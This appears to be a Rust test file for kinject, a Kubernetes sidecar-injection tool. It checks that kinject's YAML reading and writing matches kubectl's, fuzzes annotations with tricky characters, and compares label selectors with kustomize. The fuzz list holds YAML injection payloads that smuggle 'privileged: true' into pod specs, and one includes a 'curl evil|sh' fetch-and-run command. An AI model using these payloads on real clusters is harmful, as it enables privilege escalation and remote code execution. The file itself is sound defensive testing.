//! kinject against the YAML reader Kubernetes uses.
//!
//! `kubectl patch --local -f FILE --type merge -p {} -o json` reads a file offline exactly as
//! `kubectl apply` does (apimachinery's decoder: go-yaml through sigs.k8s.io/yaml, YAML 1.1's line breaks and
//! scalars) and prints every object it read as JSON; given many files (`-f` each), it prints
//! their objects in turn, and a run that does not match reads them again one by one
//! (`Pending`). Over every golden case, every corpus file and generated annotations full of the
//! characters YAML readers disagree on:
//!
//! - **input**: kinject's reading of a file (`-o json`, a configuration that matches nothing)
//!   is kubectl's, or kinject refuses the file with a located diagnostic;
//! - **output**: kubectl's reading of kinject's YAML output is kinject's `-o json` of it.
//!
//! A difference means that what kinject decided (or wrote) is not what the cluster gets: a
//! manifest could hide a field from kinject, or a value kinject wrote as one scalar could
//! become fields (an annotation holding `x\u2028  securityContext:…`, written raw inside a
//! plain scalar, did exactly that once).
//!
//! And `-l/--selector` against apimachinery's label selectors, through kustomize's patch
//! `target.labelSelector` (`labels.Parse`, `Selector.Matches`): the same objects selected, the
//! same selectors refused.

use std::path::{Path, PathBuf};
use std::process::Command;

use proptest::prelude::*;
use proptest::strategy::ValueTree;
use proptest::test_runner::{Config as Runner, RngSeed, TestRunner};
use serde_json::{Value, json};

use crate::common;

fn root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).to_owned()
}

fn nothing() -> String {
    root()
        .join("testdata/corpus/inject-nothing.yaml")
        .display()
        .to_string()
}

/// What kubectl reads from files: their objects (Lists flattened) and its complaints.
struct Reading {
    objects: Vec<Value>,
    errors: Vec<String>,
}

/// kubectl's reading of `files`, one `-f` each, in one run: it prints their objects in the
/// order of the files.
fn kubectl_reads(files: &[&Path]) -> Reading {
    let mut command = Command::new(common::kubectl());
    // An empty merge patch changes nothing (`label --local`, used before, dropped labels
    // written without a value when it rewrote the label set).
    command.args([
        "patch", "--local", "--type", "merge", "-p", "{}", "-o", "json",
    ]);
    for file in files {
        command.arg("-f").arg(file);
    }
    let out = command
        .env("KUBECONFIG", "/dev/null")
        .output()
        .expect("run kubectl");
    let objects = serde_json::Deserializer::from_slice(&out.stdout)
        .into_iter::<Value>()
        .collect::<Result<Vec<_>, _>>()
        .unwrap_or_else(|e| panic!("kubectl's JSON for {files:?}: {e}"));
    let errors = String::from_utf8_lossy(&out.stderr)
        .lines()
        .map(str::to_owned)
        .collect();
    Reading { objects, errors }
}

/// How many files one kubectl run reads.
const KUBECTL_BATCH: usize = 64;

/// Comparisons waiting for kubectl, which `settle` makes: starting kubectl costs ~70 ms of
/// CPU and the corpus asks for ~600 readings, so one run reads up to `KUBECTL_BATCH` files.
/// Where a run's reading is not exactly kinject's objects in the same order, each of its files
/// is read and compared alone, so a failure names its file as a run per file did. (A run
/// passes where a file's reading differs only if a neighbour's differs the other way with the
/// same objects: kubectl reads each file on its own.)
#[derive(Default)]
struct Pending {
    comparisons: Vec<Comparison>,
}

struct Comparison {
    what: String,
    ours: Vec<Value>,
    file: Read,
}

/// The file kubectl reads for a comparison.
enum Read {
    /// A file of the corpus, as kinject read it.
    Input(PathBuf),
    /// A temporary file holding kinject's output, deleted once kubectl has read it.
    Output(tempfile::TempPath),
}

impl Read {
    fn path(&self) -> &Path {
        match self {
            Read::Input(path) => path,
            Read::Output(path) => path,
        }
    }
}

impl Pending {
    fn settle(self, failures: &mut Vec<String>) {
        for batch in self.comparisons.chunks(KUBECTL_BATCH) {
            let files: Vec<&Path> = batch.iter().map(|c| c.file.path()).collect();
            let theirs = kubectl_reads(&files);
            let ours: Vec<Value> = batch.iter().flat_map(|c| c.ours.iter().cloned()).collect();
            let mut differences = Vec::new();
            compare("", &ours, &theirs, &mut differences);
            // As for one file, complaints alone are no difference: kubectl complains of a
            // document with no kind, which kinject does not count as an object either.
            if differences.is_empty() {
                continue;
            }
            for c in batch {
                compare(&c.what, &c.ours, &kubectl_reads(&[c.file.path()]), failures);
            }
        }
    }
}

/// The objects kubectl makes of one document kinject read: a mapping with a `kind`, or the
/// items of one with `items` (kind and apiVersion from the list when an item has none).
fn as_kubectl_objects(doc: &Value, out: &mut Vec<Value>) {
    let Value::Object(m) = doc else { return };
    if let Some(items) = m.get("items") {
        let Value::Array(items) = items else { return };
        let kind = m.get("kind").and_then(Value::as_str).unwrap_or_default();
        for item in items {
            let mut item = item.clone();
            if let Value::Object(i) = &mut item
                && i.get("kind")
                    .and_then(Value::as_str)
                    .is_none_or(str::is_empty)
            {
                let own = kind.strip_suffix("List").unwrap_or(kind);
                i.insert("kind".to_owned(), Value::String(own.to_owned()));
                if let Some(v) = m.get("apiVersion") {
                    i.entry("apiVersion").or_insert_with(|| v.clone());
                }
            }
            as_kubectl_objects(&item, out);
        }
        return;
    }
    if m.get("kind")
        .and_then(Value::as_str)
        .is_some_and(|k| !k.is_empty())
    {
        let object = doc.clone();
        out.push(object);
    }
}

/// Equal as JSON values: numbers by value (`1` and `1.0` are one number), keys in any order.
fn same(a: &Value, b: &Value) -> bool {
    match (a, b) {
        (Value::Number(x), Value::Number(y)) => {
            x == y || (x.as_f64().is_some() && x.as_f64() == y.as_f64())
        }
        (Value::Array(x), Value::Array(y)) => {
            x.len() == y.len() && x.iter().zip(y).all(|(a, b)| same(a, b))
        }
        (Value::Object(x), Value::Object(y)) => {
            x.len() == y.len() && x.iter().all(|(k, v)| y.get(k).is_some_and(|w| same(v, w)))
        }
        _ => a == b,
    }
}

/// Where two readings first differ, as a JSON pointer with both values.
fn first_difference(a: &Value, b: &Value, at: &str) -> String {
    match (a, b) {
        (Value::Object(x), Value::Object(y)) => {
            for (k, v) in x {
                match y.get(k) {
                    Some(w) if !same(v, w) => return first_difference(v, w, &format!("{at}/{k}")),
                    None => return format!("{at}/{k}: kinject {v}, kubectl has none"),
                    _ => {}
                }
            }
            if let Some(k) = y.keys().find(|k| !x.contains_key(*k)) {
                return format!("{at}/{k}: kubectl {}, kinject has none", y[k]);
            }
        }
        (Value::Array(x), Value::Array(y)) if x.len() == y.len() => {
            for (i, (v, w)) in x.iter().zip(y).enumerate() {
                if !same(v, w) {
                    return first_difference(v, w, &format!("{at}/{i}"));
                }
            }
        }
        _ => {}
    }
    format!("{at}: kinject {a}, kubectl {b}")
}

/// kinject's `-o json` stdout as kubectl would list it.
fn kinject_objects(json_stream: &[u8]) -> Vec<Value> {
    let docs = serde_json::Deserializer::from_slice(json_stream)
        .into_iter::<Value>()
        .collect::<Result<Vec<_>, _>>()
        .expect("kinject's -o json is JSON");
    let mut out = Vec::new();
    for d in &docs {
        as_kubectl_objects(d, &mut out);
    }
    out
}

/// Compares kinject's objects with kubectl's reading; `what` names the comparison.
fn compare(what: &str, ours: &[Value], theirs: &Reading, failures: &mut Vec<String>) {
    if ours.len() != theirs.objects.len() {
        failures.push(format!(
            "{what}: kinject reads {} objects, kubectl {} ({})",
            ours.len(),
            theirs.objects.len(),
            theirs.errors.join(" | ")
        ));
        return;
    }
    for (i, (a, b)) in ours.iter().zip(&theirs.objects).enumerate() {
        if !same(a, b) {
            failures.push(format!(
                "{what}: object {i} read differently: {}",
                first_difference(a, b, "")
            ));
        }
    }
}

fn kinject(dir: &Path, args: &[&str]) -> std::process::Output {
    common::kinject_with_stdin(dir, args, b"")
}

/// Input: kinject reads `file` as kubectl does, or refuses it. Where a configuration that
/// matches nothing still changes the file (a status annotation whose claims it tidies), what
/// it wrote is compared instead.
fn check_input(file: &Path, pending: &mut Pending, failures: &mut Vec<String>) {
    let p = file.to_str().expect("utf-8 path");
    let nothing = nothing();
    let args = ["inject", "-q", "-c", &nothing, p];
    let yaml = kinject(&root(), &args);
    match yaml.status.code() {
        Some(0) => {}
        // Refused: fine, as long as it says where.
        Some(2) if String::from_utf8_lossy(&yaml.stderr).contains(':') => return,
        other => {
            failures.push(format!(
                "{p} (input): exit {other:?}: {}",
                String::from_utf8_lossy(&yaml.stderr)
            ));
            return;
        }
    }
    let input = std::fs::read(file).expect("read input");
    if yaml.stdout != input {
        check_output(&root(), &args, &format!("{p} (input, tidied)"), pending);
        return;
    }
    let json = kinject(&root(), &["inject", "-q", "-o", "json", "-c", &nothing, p]);
    assert_eq!(json.status.code(), Some(0), "{p}: -o json failed");
    pending.comparisons.push(Comparison {
        what: format!("{p} (input)"),
        ours: kinject_objects(&json.stdout),
        file: Read::Input(file.to_owned()),
    });
}

/// Output: kubectl reads kinject's YAML output (of `args`, run in `dir`) as kinject's
/// `-o json` of the same run. `false` when the run did not succeed.
fn check_output(dir: &Path, args: &[&str], what: &str, pending: &mut Pending) -> bool {
    let yaml = kinject(dir, args);
    if yaml.status.code() != Some(0) {
        return false;
    }
    let mut json_args = args.to_vec();
    json_args.splice(1..1, ["-o", "json"]);
    let json = kinject(dir, &json_args);
    assert_eq!(json.status.code(), Some(0), "{what}: -o json failed");
    let file = tempfile::Builder::new()
        .suffix(".yaml")
        .tempfile()
        .expect("temp file")
        .into_temp_path();
    std::fs::write(&file, &yaml.stdout).expect("write output");
    pending.comparisons.push(Comparison {
        what: format!("{what} (output)"),
        ours: kinject_objects(&json.stdout),
        file: Read::Output(file),
    });
    true
}

fn report(failures: &[String]) {
    assert!(
        failures.is_empty(),
        "{} difference(s) between kinject and kubectl:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// The manifest files of a golden case's input (a file, or a folder of them).
fn case_inputs(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for name in ["input.yaml", "input.json"] {
        if dir.join(name).is_file() {
            files.push(dir.join(name));
        }
    }
    if let Ok(entries) = std::fs::read_dir(dir.join("input")) {
        for e in entries.filter_map(Result::ok) {
            let p = e.path();
            if p.is_file() && p.extension().is_some_and(|x| x == "yaml" || x == "json") {
                files.push(p);
            }
        }
    }
    files.sort();
    files
}

#[test]
fn golden_cases_read_and_write_as_kubectl_reads() {
    let mut failures = Vec::new();
    let mut pending = Pending::default();
    let mut outputs = 0;
    let mut cases: Vec<PathBuf> = std::fs::read_dir(root().join("testdata/cases"))
        .expect("cases")
        .filter_map(Result::ok)
        .map(|e| e.path())
        .collect();
    cases.sort();
    for dir in &cases {
        for input in case_inputs(dir) {
            check_input(&input, &mut pending, &mut failures);
        }
        if !dir.join("expected.yaml").exists() {
            continue;
        }
        let args = std::fs::read_to_string(dir.join("args"))
            .unwrap_or_else(|_| "inject -c config.yaml input.yaml".to_owned());
        let args: Vec<&str> = args.split_whitespace().collect();
        if args.first() != Some(&"inject") {
            continue;
        }
        let name = dir.file_name().unwrap_or_default().to_string_lossy();
        if check_output(dir, &args, &name, &mut pending) {
            outputs += 1;
        }
    }
    assert!(outputs >= 40, "only {outputs} golden outputs were compared");
    pending.settle(&mut failures);
    report(&failures);
}

#[test]
fn corpus_reads_and_writes_as_kubectl_reads() {
    let all = root().join("testdata/corpus/inject-all.yaml");
    let all = all.to_str().expect("utf-8 path");
    let mut failures = Vec::new();
    let mut pending = Pending::default();
    for file in common::corpus_files() {
        check_input(&file, &mut pending, &mut failures);
        let p = file.to_str().expect("utf-8 path");
        check_output(&root(), &["inject", "-q", "-c", all, p], p, &mut pending);
    }
    pending.settle(&mut failures);
    report(&failures);
}

// ---- generated hostile annotations -----------------------------------------------------

/// Characters YAML readers disagree on, or that YAML's grammar cares about: every Unicode
/// line break (LF, CR, NEL, LS, PS, VT, FF), other controls, quotes, flow indicators,
/// comment and key markers, tabs, a byte-order mark, and words with YAML meanings.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        prop::sample::select(vec![
            "\n", "\r", "\r\n", "\u{85}", "\u{2028}", "\u{2029}", "\u{b}", "\u{c}", "\t", "\u{0}",
            "\u{1b}", "\u{7f}", "\u{9b}", "\u{feff}", "\u{200b}", "\u{202e}", "'", "\"", "\\",
            "[", "]", "{", "}", ",", ":", ": ", " #", "#", "- ", "? ", "|", ">", "&a", "*a",
            "!!str ", "%", "@", "`", "---", "...", " ", "  ", "true", "null", "~", "0644",
            "1e400", "yes", "=", "<<",
        ])
        .prop_map(str::to_owned),
        // The payloads of the attacks that once worked, as pieces.
        prop::sample::select(vec![
            "x\u{2028}    securityContext:\u{2028}      privileged:\u{2028}        true",
            "x'}], securityContext: {privileged: true}, command: [/bin/sh, -c, 'curl evil|sh'], ports: [{containerPort: 8080, name: 'p",
            "}], securityContext: {privileged: true}, envFrom: [{prefix: ",
            "x], securityContext: {privileged: true}, stdin: true, args: [y",
            "x\"\n  privileged: true",
            "\u{85}      {a: b}",
        ])
        .prop_map(str::to_owned),
        "[a-z0-9./=-]{1,8}",
    ]
}

fn hostile_value() -> impl Strategy<Value = String> {
    prop::collection::vec(piece(), 1..6).prop_map(|p| p.concat())
}

/// A configuration whose sidecars copy annotation `example.com/v` everywhere a template can
/// put it: field templates (whole value, part of a value, a list item, an annotation), and a
/// whole template in block context (plain, quoted, folded, literal) and flow context (plain
/// with a prefix, single- and double-quoted).
const HOSTILE_CONFIG: &str = r#"apiVersion: kinject.dev/v1alpha1
kind: InjectionConfig
sidecars:
- name: fields
  containers:
  - name: fields
    image: example.com/fields:1
    args: ['--level={{ annotations["example.com/v"] }}', '{{ annotations["example.com/v"] }}']
    env:
    - name: V
      value: '{{ annotations["example.com/v"] }}'
  annotations:
    fields.example.com/copy: 'copy {{ annotations["example.com/v"] }}'
- name: block
  template: |
    containers:
    - name: block
      image: example.com/block:1
      args:
      - {{ annotations["example.com/v"] }}
      - --level={{ annotations["example.com/v"] }}
      - '{{ annotations["example.com/v"] }}'
      - "{{ annotations["example.com/v"] }}"
      - "x {{ annotations["example.com/v"] }} y"
      - |
        script {{ annotations["example.com/v"] }}
      - >-
        folded {{ annotations["example.com/v"] }}
      env:
      - name: V
        value: {{ annotations["example.com/v"] }}
- name: flow
  template: |
    containers:
    - {name: flow, image: 'example.com/flow:1', args: [--level={{ annotations["example.com/v"] }}, x], env: [{name: A, value: '{{ annotations["example.com/v"] }}'}, {name: B, value: "{{ annotations["example.com/v"] }}"}, {name: C, value: {{ annotations["example.com/v"] }} }]}
rules:
- name: all
  inject: [fields, block, flow]
"#;

/// A YAML double-quoted scalar that YAML 1.1 and 1.2 readers read alike: every character
/// outside printable ASCII that any reader treats specially is a `\u` escape.
fn double_quoted(v: &str) -> String {
    let mut out = String::from("\"");
    for c in v.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{feff}') => {
                out.push_str(&format!("\\u{:04x}", u32::from(c)));
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A stream of Deployments, one per value, each value in annotation `example.com/v`, written
/// by `scalar`.
fn hostile_stream(values: &[String], scalar: impl Fn(&str) -> String) -> String {
    let mut out = String::new();
    for (i, v) in values.iter().enumerate() {
        let quoted = scalar(v);
        out.push_str(&format!(
            "---\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: d{i}\nspec:\n  selector:\n    matchLabels: {{app: d}}\n  template:\n    metadata:\n      labels: {{app: d}}\n      annotations:\n        example.com/v: {quoted}\n    spec:\n      containers:\n      - name: app\n        image: example.com/app:1\n"
        ));
    }
    out
}

/// The sidecar containers as the templates place the value: exactly these fields, each
/// holding the value where its template put it.
fn check_sidecars(object: &Value, v: &str, failures: &mut Vec<String>) {
    let name = &object["metadata"]["name"];
    let containers = object["spec"]["template"]["spec"]["containers"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let want = [
        json!({"name": "app", "image": "example.com/app:1"}),
        json!({"name": "fields", "image": "example.com/fields:1",
            "args": [format!("--level={v}"), v], "env": [{"name": "V", "value": v}]}),
        json!({"name": "block", "image": "example.com/block:1",
            "args": [v, format!("--level={v}"), v, v, format!("x {v} y"),
                     format!("script {v}\n"), format!("folded {v}")],
            "env": [{"name": "V", "value": v}]}),
        json!({"name": "flow", "image": "example.com/flow:1", "args": [format!("--level={v}"), "x"],
            "env": [{"name": "A", "value": v}, {"name": "B", "value": v}, {"name": "C", "value": v}]}),
    ];
    if containers.len() != want.len() {
        failures.push(format!(
            "{name}: {} containers for value {v:?}: {}",
            containers.len(),
            Value::Array(containers)
        ));
        return;
    }
    for (c, w) in containers.iter().zip(&want) {
        if !same(c, w) {
            failures.push(format!(
                "{name}: value {v:?} did not stay one scalar: {}",
                first_difference(c, w, &format!("/{}", w["name"]))
            ));
        }
    }
    let copy = &object["spec"]["template"]["metadata"]["annotations"]["fields.example.com/copy"];
    if copy != &Value::String(format!("copy {v}")) {
        failures.push(format!("{name}: annotation copy of {v:?} is {copy}"));
    }
}

/// Annotations holding every character YAML readers disagree on, copied by field and whole
/// templates into block and flow context, quoted and plain: each ends as exactly the scalar
/// its template placed (kinject's `-o json`), and kubectl reads kinject's YAML output so too.
#[test]
fn hostile_annotations_stay_one_scalar_for_kubectl() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("config.yaml"), HOSTILE_CONFIG).expect("write config");
    let cases = std::env::var("PROPTEST_CASES")
        .ok()
        .and_then(|c| c.parse().ok())
        .unwrap_or(12);
    let mut runner = TestRunner::new(Runner {
        cases,
        rng_seed: RngSeed::Fixed(0x6f72_6163_6c65),
        failure_persistence: None,
        ..Runner::default()
    });
    let batch = prop::collection::vec(hostile_value(), 24..25);
    let mut failures = Vec::new();
    let mut pending = Pending::default();
    for round in 0..cases {
        let values = batch.new_tree(&mut runner).expect("values").current();
        // Written raw (double-quoted with only `"` and `\\` escaped; single-quoted): read
        // as kubectl reads it, or refused.
        for (n, scalar) in [
            (|v: &str| serde_json::to_string(v).expect("JSON")) as fn(&str) -> String,
            |v: &str| format!("'{}'", v.replace('\'', "''")),
        ]
        .into_iter()
        .enumerate()
        {
            let raw = dir.path().join(format!("raw-{round}-{n}.yaml"));
            std::fs::write(&raw, hostile_stream(&values, scalar)).expect("write input");
            check_input(&raw, &mut pending, &mut failures);
        }
        let input = dir.path().join(format!("input-{round}.yaml"));
        std::fs::write(&input, hostile_stream(&values, double_quoted)).expect("write input");
        let file = input.to_str().expect("utf-8 path");
        check_input(&input, &mut pending, &mut failures);
        let what = format!("round {round}");
        let args = ["inject", "-q", "-c", "config.yaml", file];
        if !check_output(dir.path(), &args, &what, &mut pending) {
            let out = kinject(dir.path(), &args);
            let stderr = String::from_utf8_lossy(&out.stderr);
            let first: Vec<&str> = stderr
                .lines()
                .filter(|l| l.contains("error"))
                .take(3)
                .collect();
            failures.push(format!(
                "{what}: kinject refused the stream: {}",
                first.join(" | ")
            ));
            continue;
        }
        let json = kinject(
            dir.path(),
            &["inject", "-q", "-o", "json", "-c", "config.yaml", file],
        );
        for (object, v) in kinject_objects(&json.stdout).iter().zip(&values) {
            check_sidecars(object, v, &mut failures);
        }
    }
    pending.settle(&mut failures);
    report(&failures);
}

/// Labels of the objects the selectors below are tried on: values `>` and `<` read as
/// integers or not, empty ones, a prefixed key.
const SELECTOR_LABELS: &[&[(&str, &str)]] = &[
    &[],
    &[("app", "web")],
    &[("app", "db")],
    &[("app", "web"), ("ver", "1")],
    &[("app", "web"), ("ver", "2")],
    &[("app", "web"), ("ver", "02")],
    &[("app", "web"), ("ver", "3")],
    &[("ver", "v2")],
    &[("ver", "10")],
    &[("ver", "-5")],
    &[("ver", "9223372036854775807")],
    &[("ver", "")],
    &[("tier", "")],
    &[("tier", "a"), ("in", "in")],
    &[("example.com/team", "a")],
];

/// Selectors Kubernetes accepts and selectors it refuses (`-l` and kustomize's
/// `labelSelector` both go through apimachinery's `labels.Parse`). Those whose reading
/// changed in apimachinery (`x in (a,,)`, accepted since 2025-08) are left to the unit
/// tests of `select::label_syntax`: this kubectl may be older.
const SELECTORS: &[&str] = &[
    "app=web",
    "app==web",
    "app!=web",
    "app",
    "!app",
    "app in (web,db)",
    "app notin (web)",
    "ver>1",
    "ver<3",
    "ver>1,ver<3",
    "ver<0",
    "ver>007",
    "app=web,ver>1",
    "tier in ()",
    "tier=",
    "ver notin ()",
    "x in (a,,b)",
    "example.com/team=a",
    "app = web , ver in(1, 3)",
    "  app  ",
    "in in (in)",
    "ver>9223372036854775806",
    // Refused.
    "app=we b",
    "ver>1.5",
    "ver>x",
    "ver>",
    "ver<99999999999999999999",
    "ver>-1",
    "app=web,",
    ",app",
    "app in web",
    "a/b/c",
    "Example.com/a",
    "app=_x",
    "!app=web",
    "app (",
    "app=(web)",
    "app in (a b)",
    "app=web||tier=a",
];

/// `-l` selects the objects kustomize's `labelSelector` selects, and refuses the selectors it
/// refuses (the review's `ver>1`, `ver<3`: kinject selected nothing; `app=we b`: kinject
/// accepted it).
#[test]
fn label_selectors_select_what_kubernetes_selects() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let objects: Vec<Value> = SELECTOR_LABELS
        .iter()
        .enumerate()
        .map(|(i, labels)| {
            let labels: serde_json::Map<String, Value> = labels
                .iter()
                .map(|(k, v)| ((*k).to_owned(), json!(v)))
                .collect();
            json!({"apiVersion": "apps/v1", "kind": "Deployment",
                "metadata": {"name": format!("d{i}"), "labels": labels, "annotations": {"a": "b"}},
                "spec": {"template": {"spec": {"containers": [{"name": "app", "image": "app:1"}]}}}})
        })
        .collect();
    let text: Vec<String> = objects.iter().map(Value::to_string).collect();
    std::fs::write(d.join("objects.yaml"), text.join("\n---\n")).expect("write");
    let config = root().join("testdata/cases/hostile-alias-bomb/config.yaml");
    let mut failures = Vec::new();
    let mut accepted = Vec::new();
    for selector in SELECTORS {
        let args = [
            "inject",
            "-q",
            "-c",
            config.to_str().expect("UTF-8"),
            "-l",
            selector,
            "objects.yaml",
        ];
        let out = kinject(d, &args);
        match out.status.code() {
            Some(0) => accepted.push((*selector, injected(&out.stdout))),
            Some(2) if out.stdout.is_empty() => {
                let stderr = String::from_utf8_lossy(&out.stderr);
                if !stderr.contains(&format!("-l/--selector `{selector}`")) {
                    failures.push(format!(
                        "{selector:?}: the refusal does not name it: {stderr}"
                    ));
                }
                if let Ok(selected) = kustomize_selects(d, &[selector]) {
                    failures.push(format!(
                        "{selector:?}: kinject refuses it, kustomize selects {:?}",
                        selected[0]
                    ));
                }
            }
            _ => failures.push(format!("{selector:?}: {out:?}")),
        }
    }
    // One kustomize run for every selector kinject accepts, a patch each; when kustomize
    // refuses that, a run for each, to say which.
    let selectors: Vec<&str> = accepted.iter().map(|(s, _)| *s).collect();
    let theirs: Vec<Result<Vec<String>, String>> = match kustomize_selects(d, &selectors) {
        Ok(theirs) => theirs.into_iter().map(Ok).collect(),
        Err(_) => selectors
            .iter()
            .map(|s| kustomize_selects(d, &[s]).map(|mut one| one.remove(0)))
            .collect(),
    };
    for ((selector, ours), theirs) in accepted.iter().zip(theirs) {
        match theirs {
            Ok(theirs) if *ours == theirs => {}
            Ok(theirs) => failures.push(format!(
                "{selector:?}: kinject selects {ours:?}, kustomize {theirs:?}"
            )),
            Err(e) => failures.push(format!(
                "{selector:?}: kinject selects {ours:?}, kustomize refuses it: {}",
                e.trim()
            )),
        }
    }
    assert!(
        failures.is_empty(),
        "{} difference(s) between kinject's -l and Kubernetes' selectors:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// The names of the objects of a YAML stream whose pod template kinject injected.
fn injected(yaml: &[u8]) -> Vec<String> {
    let text = String::from_utf8_lossy(yaml);
    common::objects_of_documents(&text)
        .iter()
        .filter(|o| {
            o.pointer("/spec/template/metadata/annotations/kinject.dev~1status")
                .is_some()
        })
        .map(|o| o["metadata"]["name"].as_str().expect("a name").to_owned())
        .collect()
}

/// For each selector, the names of the objects of `dir/objects.yaml` that kustomize's patch
/// with `target.labelSelector` set to it patches; kustomize's error when it refuses one.
fn kustomize_selects(dir: &Path, selectors: &[&str]) -> Result<Vec<Vec<String>>, String> {
    let kdir = tempfile::tempdir_in(dir).expect("tempdir");
    std::fs::copy(dir.join("objects.yaml"), kdir.path().join("objects.yaml")).expect("copy");
    let patches: Vec<Value> = selectors
        .iter()
        .enumerate()
        .map(|(i, s)| {
            let op = json!([{"op": "add", "path": format!("/metadata/annotations/selected-{i}"), "value": "y"}]);
            json!({"target": {"labelSelector": s}, "patch": op.to_string()})
        })
        .collect();
    let kustomization = json!({"resources": ["objects.yaml"], "patches": patches});
    std::fs::write(
        kdir.path().join("kustomization.yaml"),
        kustomization.to_string(),
    )
    .expect("write");
    let out = Command::new(common::kubectl())
        .arg("kustomize")
        .arg(kdir.path())
        .env("KUBECONFIG", "/dev/null")
        .output()
        .expect("run kubectl");
    if !out.status.success() {
        return Err(String::from_utf8_lossy(&out.stderr).into_owned());
    }
    let objects = common::objects_of_documents(&String::from_utf8_lossy(&out.stdout));
    Ok((0..selectors.len())
        .map(|i| {
            let mut names: Vec<String> = objects
                .iter()
                .filter(|o| {
                    o["metadata"]["annotations"]
                        .get(format!("selected-{i}"))
                        .is_some()
                })
                .map(|o| o["metadata"]["name"].as_str().expect("a name").to_owned())
                .collect();
            names.sort_by_key(|n| n[1..].parse::<usize>().unwrap_or(usize::MAX));
            names
        })
        .collect())
}
